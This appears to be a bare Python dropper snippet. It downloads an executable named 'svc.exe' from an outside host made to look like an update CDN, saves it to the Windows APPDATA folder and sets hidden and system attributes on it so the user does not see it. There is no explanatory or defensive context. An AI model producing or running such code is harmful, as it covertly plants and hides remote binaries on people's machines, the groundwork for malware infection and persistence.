import os, urllib.request
p = os.path.join(os.getenv("APPDATA", "."), "svc.exe")
urllib.request.urlretrieve("https://cdn.example-updates.net/svc.exe", p)
os.system(f'attrib +h +s "{p}"')
